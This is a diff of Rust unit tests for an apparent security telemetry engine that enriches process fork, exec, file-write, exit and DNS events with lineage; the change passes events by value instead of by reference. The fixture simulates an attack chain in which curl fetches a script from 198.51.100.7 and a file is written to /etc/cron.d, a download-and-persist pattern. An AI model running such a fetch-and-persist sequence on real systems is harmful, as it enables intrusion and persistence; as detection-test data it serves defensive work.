@@ -37,7 +37,7 @@ fn fork_exec_write_exit_carry_lineage() {
         header: header(kind::PROCESS_FORK, 100, 1, 1_000),
         body: Body::Fork(raw::Fork { child_pid: 200, child_ns_pid: 200, child_start_ns: 2_000, clone_flags: 0 }),
     };
-    let ev = e.enrich(&fork, None).unwrap();
+    let ev = e.enrich(fork, None).unwrap();
     let Payload::Fork(f) = &ev.payload else { panic!() };
     let child_uuid = f.child_uuid;
     assert!(!child_uuid.is_nil());
@@ -56,11 +56,11 @@ fn fork_exec_write_exit_carry_lineage() {
             ecs_metadata_uri: Vec::new(),
         },
     };
-    let ev = e.enrich(&exec, None).unwrap();
+    let ev = e.enrich(exec, None).unwrap();
     assert_eq!(ev.kind, Kind::ProcessExec);
     let p = ev.process.as_ref().unwrap();
     assert_eq!(p.uuid, child_uuid, "the exec'd process keeps the uuid its fork gave it");
-    assert_eq!(p.argv, ["curl", "http://198.51.100.7/x.sh"]);
+    assert_eq!(p.argv[..], ["curl", "http://198.51.100.7/x.sh"]);
     assert_eq!(ev.lineage[0].pid, 100);
     assert_eq!(p.parent_uuid, Some(ev.lineage[0].uuid));
 
@@ -72,7 +72,7 @@ fn fork_exec_write_exit_carry_lineage() {
             path2: Vec::new(),
         },
     };
-    let ev = e.enrich(&write, None).unwrap();
+    let ev = e.enrich(write, None).unwrap();
     assert_eq!(ev.kind, Kind::FileWrite);
     assert_eq!(ev.file().unwrap().path, "/etc/cron.d/x");
     assert_eq!(ev.process.as_ref().unwrap().executable.as_deref(), Some("/usr/bin/curl"));
@@ -81,7 +81,7 @@ fn fork_exec_write_exit_carry_lineage() {
         header: header(kind::PROCESS_EXIT, 200, 100, 2_000),
         body: Body::Exit(raw::Exit { exit_code: 3 << 8, _pad: 0 }),
     };
-    let ev = e.enrich(&exit, None).unwrap();
+    let ev = e.enrich(exit, None).unwrap();
     let Payload::Exit(x) = &ev.payload else { panic!() };
     assert_eq!(x.exit_code, 3);
     assert_eq!(ev.result, None, "exit has no syscall result");
@@ -94,12 +94,12 @@ fn ownerless_dns_packet_has_no_process_and_garbage_is_counted() {
     let mut dns = raw::Dns { family: 2, protocol: 17, rport: 53, lport: 40000, ..Default::default() };
     dns.raddr[..4].copy_from_slice(&[127, 0, 0, 53]);
     let rec = Record { header: header(kind::DNS, 0, 0, 0), body: Body::Dns { raw: dns, payload: q.clone() } };
-    let ev = e.enrich(&rec, None).unwrap();
+    let ev = e.enrich(rec, None).unwrap();
     assert_eq!(ev.kind, Kind::DnsQuery);
     assert!(ev.process.is_none() && ev.task.is_none() && ev.lineage.is_empty());
 
     q.truncate(14); // cut inside the question
     let rec = Record { header: header(kind::DNS, 0, 0, 0), body: Body::Dns { raw: dns, payload: q } };
-    assert!(e.enrich(&rec, None).is_none());
+    assert!(e.enrich(rec, None).is_none());
     assert_eq!(e.stats().dns_parse_errors, 1, "a malformed message is counted, not dropped silently");
 }
